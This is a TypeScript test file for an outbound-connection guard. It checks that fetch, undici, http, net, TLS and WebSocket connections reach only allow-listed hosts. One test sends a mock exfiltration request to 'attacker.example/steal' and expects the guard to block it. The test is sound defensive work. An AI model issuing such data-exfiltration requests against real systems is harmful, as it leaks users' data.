import { mkdtempSync, rmSync } from "node:fs";
import { createServer, request, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { connect, createServer as createNetServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { connect as connectTls } from "node:tls";
import { Pool, fetch as undiciFetch } from "undici";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { WebSocket } from "ws";
import { destinationOfUrl, guardOutbound } from "../../../src/adapters/system/outbound-guard.ts";

let servers: Server[];
let refused: string[];
let release: () => void;
let hits: number;
let open: number;
let closed: number;

async function serve(): Promise<number> {
  const server = createServer((_, response) => {
    hits++;
    response.end("ok");
  });
  servers.push(server);
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  return (server.address() as AddressInfo).port;
}

beforeEach(async () => {
  [servers, refused, hits] = [[], [], 0];
  [open, closed] = [await serve(), await serve()];
  release = guardOutbound([`127.0.0.1:${open}`], (one) => refused.push(one));
});
afterEach(() => {
  release();
  for (const server of servers) {
    server.close();
    server.closeAllConnections();
  }
});

/** Every way in which code of this project or of a package opens a connection. */
const ways: readonly (readonly [string, (port: number) => Promise<unknown>])[] = [
  ["fetch of Node", (port) => fetch(`http://127.0.0.1:${port}/`)],
  ["fetch of undici", (port) => undiciFetch(`http://127.0.0.1:${port}/`)],
  [
    "a pool of undici",
    async (port) => {
      const pool = new Pool(`http://127.0.0.1:${port}`);
      try {
        return await pool.request({ method: "GET", path: "/" });
      } finally {
        await pool.destroy();
      }
    },
  ],
  [
    "http.request",
    (port) =>
      new Promise((resolve, reject) => {
        request({ host: "127.0.0.1", port }, resolve).on("error", reject).end();
      }),
  ],
  [
    "net.connect",
    (port) =>
      new Promise((resolve, reject) => {
        const socket = connect(port, "127.0.0.1", () => resolve(socket.destroy()));
        socket.on("error", reject);
      }),
  ],
];

describe("the outbound guard (X5)", () => {
  test.each(ways)("%s reaches the configured host and no other", async (_, go) => {
    await go(open);
    await expect(go(closed)).rejects.toThrow();
    expect(refused).toEqual([`127.0.0.1:${closed}`]);
    release();
    await go(closed);
  });

  test("nothing arrives at a host that is not listed", async () => {
    for (const [, go] of ways) await go(closed).catch(() => undefined);
    expect(hits).toBe(0);
    expect(refused).toHaveLength(ways.length);
  });

  test("TLS, web sockets and names are seen too", async () => {
    await new Promise<void>((done) => {
      connectTls({ host: "203.0.113.9", port: 443 }).on("error", () => done());
    });
    await new Promise<void>((done) => {
      new WebSocket(`ws://127.0.0.1:${closed}`).on("error", () => done());
    });
    await expect(fetch("https://attacker.example/steal")).rejects.toThrow();
    expect(refused).toEqual(["203.0.113.9:443", `127.0.0.1:${closed}`, "attacker.example:443"]);
  });

  test("sockets of this machine stay free", async () => {
    const folder = mkdtempSync(join(tmpdir(), "pitboss-guard-"));
    const path = join(folder, "s");
    const server = createNetServer((socket) => socket.end("hello"));
    await new Promise<void>((listening) => server.listen(path, listening));
    const said = await new Promise((resolve, reject) => {
      connect(path)
        .on("data", (data) => resolve(String(data)))
        .on("error", reject);
    });
    expect(said).toBe("hello");
    server.close();
    rmSync(folder, { recursive: true });
  });

  test.each([
    ["https://clob.polymarket.com", "clob.polymarket.com:443"],
    ["wss://X.example/ws", "x.example:443"],
    ["http://127.0.0.1:8790/gamma", "127.0.0.1:8790"],
    ["ws://[::1]", "::1:80"],
  ])("%s is %s", (url, destination) => expect(destinationOfUrl(url)).toBe(destination));
});
